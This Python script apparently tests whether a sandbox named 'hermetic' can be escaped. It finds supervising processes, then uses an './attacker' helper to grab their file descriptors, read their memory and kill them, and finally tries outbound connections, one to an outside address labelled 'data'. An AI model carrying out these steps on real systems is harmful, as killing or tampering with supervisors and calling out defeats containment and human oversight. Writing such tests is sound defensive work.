"""Whoever decides is killed, or its memory changed, and then somebody forbidden is called."""
import os
import subprocess


def hermetics():
    """Processes of this session, and of this world and named so, that are not the program."""
    for process in set(map(int, filter(str.isdigit, os.listdir("/proc")))) - {os.getpid()}:
        try:
            same_world = os.readlink(f"/proc/{process}/ns/net") == os.readlink("/proc/self/ns/net")
            named = same_world and os.readlink(f"/proc/{process}/exe").endswith("/hermetic")
        except OSError:
            named = False
        try:
            if named or os.getsid(process) == os.getsid(0):
                yield str(process)
        except OSError:
            pass


for each in hermetics():
    for words in (["meddle", "pidfd_getfd", each], ["spy", "mem", each], ["kill", "kill", each], ["kill", "pidfd", each], ["kill", "owner", each]):
        subprocess.run(["./attacker", *words])
    subprocess.run(["sh", "-c", f"kill -KILL {each}"])
subprocess.run(["./attacker", "connect", "libc", "127.0.0.1:9000", "near"])
subprocess.run(["./attacker", "connect", "libc", "93.184.216.35:9000", "data"])
